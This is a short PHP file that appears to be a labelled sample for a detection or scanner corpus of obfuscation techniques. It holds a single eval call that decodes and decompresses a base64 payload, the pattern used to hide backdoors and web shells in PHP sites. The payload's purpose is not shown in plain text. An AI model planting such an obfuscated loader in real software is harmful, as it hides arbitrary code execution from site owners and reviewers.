<?php
/* Family: obfuscation/decode-chain
   Style: evaluator that closes the PHP tag first
   Trait: eval of a closing tag concatenated with a compressed base64 payload */
eval("?>" . gzuncompress(base64_decode("eJyzsS/IKFDITNPILC5OLdFQiQ/wDw6JVi9Uj9XUrE5NzshXKM5IzcmJT61ITUaRta5V0NdSyMxLLSpRKE7MLchJVShIrMzJT0xRSMsvUshNzMwpTyxKSc1TKEktLilW0NJXsLcDAO8uJNc=")));
